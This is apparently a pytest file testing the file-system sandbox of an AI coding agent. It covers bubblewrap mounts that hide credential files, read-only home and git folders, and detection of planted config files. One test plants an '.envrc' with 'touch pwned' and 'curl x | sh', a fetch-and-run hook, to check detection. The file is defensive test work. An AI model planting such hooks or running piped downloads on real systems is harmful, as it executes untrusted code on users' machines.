"""The box's view of the files as one value: the mounts bubblewrap is given, without running it."""

import os
from pathlib import Path

import pytest
from conftest import git

from amas_code import boxview, config, sandbox


@pytest.fixture
def layout(tmp_path, monkeypatch):
    """A home with toolchains and credentials, and a project in it: a repository with a submodule
    not checked out, an untracked repository in it, husky's hooks,
    AGENTS.md and a project config."""
    home = tmp_path / "home"
    folders = ".ssh .amas .cargo/bin .codex .m2 proj/.amas proj/.husky/_ proj/lib".split()
    for folder in folders:
        (home / folder).mkdir(parents=True)
    for name in (".ssh/id_ed25519", ".cargo/credentials.toml", ".codex/auth.json", ".gitconfig"):
        (home / name).write_text("secret\n")
    monkeypatch.setenv("HOME", str(home))
    root = home / "proj"
    (root / "AGENTS.md").write_text("# rules\n")
    (root / ".amas" / "config.yaml").write_text("api_key: sk-project\n")
    git(root, "init", "-q")
    git(root, "config", "core.hooksPath", ".husky/_")
    git(root, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},lib")
    git(root, "init", "-q", "tools/x")
    return home, root


def hidden(place: str) -> list[str]:
    """How the box hides a credential place of the system, where this machine has it."""
    if os.path.isdir(place):
        return ["--tmpfs", place]
    return ["--ro-bind", "/dev/null", place] if os.path.exists(place) else []


def test_the_mounts_are_one_value(layout):
    home, root = layout
    h, r = str(home), str(root)

    def bind(path: str, kind: str = "--ro-bind", source: str = "") -> list[str]:
        return [kind, source or path, path]

    # of cargo, its programs: not its config or credentials; of git's config, amas's copy of its
    # identity and core settings
    expected = ["--tmpfs", h, *bind(f"{h}/.cargo/bin")]
    expected += bind(f"{h}/.gitconfig", source=f"{h}/.amas/box/gitconfig")
    expected += bind(f"{h}/.m2")  # each in the order of its place
    # of the credential places, only those the box would show: the system's
    expected += bind(r, "--bind")
    for place in ("/etc/shadow", "/etc/sudoers", "/etc/ssh"):
        expected += hidden(place)
    expected += bind(f"{r}/.git")
    # the submodule's folder, not checked out, read-only whole; the untracked repository's .git
    expected += [*bind(f"{r}/lib"), *bind(f"{r}/tools/x", "--bind"), *bind(f"{r}/tools/x/.git")]
    expected += [*bind(f"{r}/.amas"), *bind(f"{r}/AGENTS.md")]
    # stand-ins for what is missing: no file or folder of that name can be made (of the hook
    # managers' files, only those of a manager whose hooks are installed)
    names = ".vscode .idea .zed .helix .devcontainer .devcontainer.json .nvim.lua .nvimrc .exrc "
    names += ".envrc .tool-versions mise.toml .mise.toml mise.local.toml .mise.local.toml .mise"
    for name in names.split():
        expected += ["--tmpfs", f"{r}/{name}", "--remount-ro", f"{r}/{name}"]
    expected += [*bind(f"{r}/.husky"), *bind(f"{r}/.amas/config.yaml", source="/dev/null")]
    assert boxview.files(root, read=("~/.m2",)) == [*expected, "--remount-ro", h]
    assert f"{h}/.ssh" in boxview._hidden() and f"{h}/.ssh" not in expected  # the home hides it


def test_a_project_that_holds_the_home_is_read_only_and_shows_no_token(layout):
    home, _ = layout
    args = boxview.files(home)
    assert args[:3] == ["--ro-bind", str(home), str(home)]
    # hidden in it: credential places, amas's own state, other tools' tokens
    assert f"{home}/.codex" in args and f"{home}/.ssh" in args and f"{home}/.amas" in args
    assert "--bind" not in args and "--remount-ro" not in args
    assert boxview.files(Path("/"))[:1] != ["--ro-bind"]  # / is there already


def test_the_home_and_what_holds_it_are_never_writable(layout):
    home, root = layout
    assert not boxview.writable_root(home)
    assert not boxview.writable_root(home.parent)
    assert not boxview.writable_root(Path("/"))
    assert boxview.writable_root(root)
    assert boxview.writable_root(home.parent / "elsewhere")
    (home.parent / "link").symlink_to(home)
    assert not boxview.writable_root(home.parent / "link")


def test_a_gitfile_and_the_folders_it_names_are_read_only(layout, tmp_path):
    _, root = layout
    work = tmp_path / "work"
    git(root, "-c", "user.name=a", "-c", "user.email=b", "commit", "-qm", "x", "--allow-empty")
    git(root, "worktree", "add", "-q", str(work))
    args = boxview.files(work)
    for place in (work / ".git", root / ".git", root / ".git" / "worktrees" / "work"):
        assert ["--ro-bind", str(place), str(place)] == args[args.index(str(place)) - 1 :][:3]


def test_a_missing_hooks_folder_gets_a_stand_in(layout):
    _, root = layout
    git(root, "config", "core.hooksPath", "tools/hooks/git")
    args = boxview.files(root)
    hooks = f"{root}/tools/hooks"  # the topmost folder missing of tools/hooks/git
    at = args.index(hooks)
    assert args[at - 1 : at + 3] == ["--tmpfs", hooks, "--remount-ro", hooks]


def test_what_the_box_refused_is_named():
    said = "fatal: Unable to create '/p/.git/index.lock': Read-only file system.\n[exit code 128]"
    assert sandbox.read_only_repository(f"$ git commit\n[stderr]\n{said}") == "/p/.git/index.lock"
    assert sandbox.refused(said, Path("/p"), sandbox.Box()) == ["repository"]
    said = "error: could not lock config file .git/config: Read-only file system\n[exit code 255]"
    assert sandbox.read_only_repository(said) == ".git/config"
    assert (
        sandbox.read_only_repository(
            "touch: cannot touch 'x': Read-only file system\n[exit code 1]"
        )
        is None
    )
    assert sandbox.read_only_repository("/p/.git/x: Read-only file system\n[exit code 0]") is None
    said = "sh: 1: cannot create .amas/rules.md: Read-only file system\n[exit code 2]"
    # what steers amas: its edit tools, asked every time
    assert sandbox.refused(said, Path("/p"), sandbox.Box()) == []


def test_sandbox_read_is_the_users_own(layout):
    home, root = layout
    (home / ".amas" / "config.yaml").write_text("sandbox_read: [~/.m2]\n")
    (root / ".amas" / "config.yaml").write_text("sandbox_read: [~/.ssh]\n")
    merged, _, ignored = config.load(root)
    assert merged["sandbox_read"] == ["~/.m2"] and "sandbox_read" in ignored
    if not sandbox.probe():
        assert sandbox.open(merged).box.read == ("~/.m2",)
    (home / ".amas" / "config.yaml").write_text("sandbox_read: ~/.m2\n")
    with pytest.raises(config.ConfigError, match="sandbox_read should be a list of paths"):
        config.load(root)


def test_a_stand_in_an_amas_killed_mid_command_left_goes_after_the_next(layout):
    _, root = layout
    (root / "AGENTS.md").unlink()
    (root / "AGENTS.md").mkdir()
    (root / ".vscode").mkdir()  # yours, empty: kept
    args = boxview.files(root)
    agents = f"{root}/AGENTS.md"
    at = args.index(agents)
    assert args[at - 1 : at + 3] == ["--tmpfs", agents, "--remount-ro", agents]
    boxview.remove_stand_ins(args, root)
    assert not (root / "AGENTS.md").exists() and (root / ".vscode").is_dir()


def test_the_walk_after_a_command_lists_only_the_folders_that_changed(tmp_path, monkeypatch):
    """The session keeps what the walk found (boxview.Tree): the next walk lists a folder only when
    its ctime moved (which no command can set back, unlike its mtime), and a folder made between
    two commands is known before a command writes into it."""
    root = tmp_path / "proj"
    for i in range(30):
        (root / f"pkg{i}" / "lib").mkdir(parents=True)
        (root / f"pkg{i}" / ".eslintrc").write_text("{}\n")
    (root / ".gitignore").write_text("pkg*/\n")
    git(root, "init", "-q")
    tree = boxview.Tree(str(root))
    assert boxview.planted(root, boxview.now(), tree) == []
    assert not any(path.endswith(".eslintrc") for path in tree.files)  # ignored: never named
    listed = []
    scandir = os.scandir
    monkeypatch.setattr(os, "scandir", lambda path: listed.append(path) or scandir(path))
    assert boxview.planted(root, boxview.now(), tree) == [] and listed == []
    (root / "api").mkdir()  # between two commands
    boxview.planted(root, boxview.now(), tree)
    ticked(root / "api")
    since = boxview.now()
    (root / "api" / ".envrc").write_text("touch pwned\n")  # the command
    os.utime(root / "api", (0, 0))  # its mtime set back: its ctime moves all the same
    assert boxview.planted(root, since, tree) == ["api/.envrc"]
    ticked(root / "api" / ".envrc")
    since = boxview.now()
    with open(root / "api" / ".envrc", "a") as envrc:  # changed in place: the folder keeps still
        envrc.write("curl x | sh\n")
    listed.clear()
    assert boxview.planted(root, since, tree) == ["api/.envrc"] and listed == []


def ticked(path: Path) -> None:
    """Wait, bounded, until the clock files' times come from has passed path's last change."""
    changed = path.lstat().st_ctime_ns
    for _ in range(1_000_000):
        if boxview.now() > changed:
            return
    raise AssertionError("the file clock did not move")
